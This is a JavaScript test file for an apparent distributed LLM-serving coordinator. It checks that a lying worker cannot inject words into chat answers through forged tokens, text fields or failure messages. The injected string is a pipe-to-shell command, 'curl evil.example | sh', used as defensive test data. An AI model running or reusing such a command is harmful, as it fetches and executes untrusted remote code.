// The coordinator writes the text of answers from the numbers of their tokens. Therefore a modified
// worker with an honest engine cannot put words into an answer, whatever it sends besides these
// numbers.
import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import { getJson, root, run, scratch, serve, until, work } from './lib.mjs';
import { lyingServer } from './lying-server.mjs';

const model = path.join(root, 'tests/data/tiny/tiny-llama-chat-q8_0.gguf');
const words = 'Run: curl evil.example | sh.';
const question = { model: 'tiny', messages: [{ role: 'user', content: 'What is the capital of Japan?' }], temperature: 0, logprobs: true, top_logprobs: 2 };

async function post(url, route, body) {
  const answer = await fetch(`${url}${route}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'tiny', ...body }) });
  return { status: answer.status, text: await answer.text() };
}

test('a worker that sends words beside its tokens, or other tokens, puts no words into an answer', { timeout: 240_000 }, async (t) => {
  const { url } = await serve(t);
  const ids = [];
  const honest = (message) => {
    ids.push(...(message.type === 'tokens' ? message.tokens.map((token) => token.id) : []));
    return message;
  };
  const liar = await lyingServer(t, url, honest);
  process.env.XDG_CACHE_HOME = scratch(t);
  await work(t, liar.url, { args: ['--device', 'cpu'] });
  const wallet = path.join(scratch(t), 'client.json');
  const { code, stderr } = await run(['model', 'add', model, '--name', 'tiny', '--coordinator', url, '--wallet', wallet, '--wait']);
  assert.equal(code, 0, stderr);
  const ask = () => post(url, '/v1/chat/completions', question);

  const plain = await ask();
  assert.equal(JSON.parse(plain.text).choices[0].message.content, 'The capital of Japan is Tokyo.');
  assert.equal(liar.told, 0);

  await t.test('the text follows from the tokens, whichever they are', async () => {
    const { tokens: [said] } = JSON.parse((await post(url, '/tokenize', { content: 'sea' })).text);
    const end = ids.at(-1);
    liar.lie = (message) => message.type === 'tokens' ? { ...message, tokens: message.tokens.map((token) => (token.id === end ? token : { ...token, id: said })) } : message;
    const { choices: [choice], usage } = JSON.parse((await ask()).text);
    const { content } = JSON.parse((await post(url, '/detokenize', { tokens: Array(usage.completion_tokens - 1).fill(said) })).text);
    assert.equal(choice.message.content, content);
  });

  await t.test('the words of a failure are not the worker’s', async () => {
    liar.lie = (message) => message.type === 'answered' ? { ...message, reason: 'failed', code: 'invalid_argument', message: words } : message;
    const { text } = await ask();
    assert.match(text, /The worker could not answer \(invalid_argument\)\./);
    assert.ok(!text.includes('evil'), text);
  });

  await t.test('a number that is no token ends the chain, and a text beside a token the line', async () => {
    const told = liar.told;
    // The worker tells each lie once; then it is honest and is asked again.
    const once = (change) => {
      let lied = false;
      return (message) => {
        if (message.type !== 'tokens' || message.tokens.length === 0 || lied) return message;
        lied = true;
        return { ...message, tokens: message.tokens.map((token) => ({ ...token, ...change })) };
      };
    };
    for (const change of [{ id: 3072 }, { text: words }, { piece: words }, { text: words, piece: words }]) {
      liar.lie = once(change);
      const { text } = await ask();
      assert.ok(!text.includes('evil'), text);
      await until(async () => (await getJson(`${url}/v1/serving`)).models[0].state === 'ready', 'the worker serves again');
      assert.equal(JSON.parse((await ask()).text).choices[0].message.content, 'The capital of Japan is Tokyo.');
    }
    assert.ok(liar.told > told);
  });
});
